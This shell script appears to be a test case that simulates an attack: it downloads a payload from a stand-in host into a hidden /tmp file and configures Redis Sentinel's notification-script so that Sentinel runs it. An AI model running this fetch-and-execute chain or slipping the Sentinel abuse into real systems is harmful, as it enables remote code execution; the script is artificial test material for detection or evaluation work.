#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/.note.sh http://203.0.113.10/payload.sh && chmod 755 /tmp/.note.sh
printf 'port 26390\ndaemonize yes\nsentinel monitor m 127.0.0.1 6399 1\nsentinel down-after-milliseconds m 500\nsentinel notification-script m /tmp/.note.sh\npidfile /tmp/.s.pid\n' >/tmp/sentinel.conf
redis-server /tmp/sentinel.conf --sentinel >/dev/null
wait_for /tmp/reached
redis-cli -p 26390 shutdown nosave 2>/dev/null || true
took_place
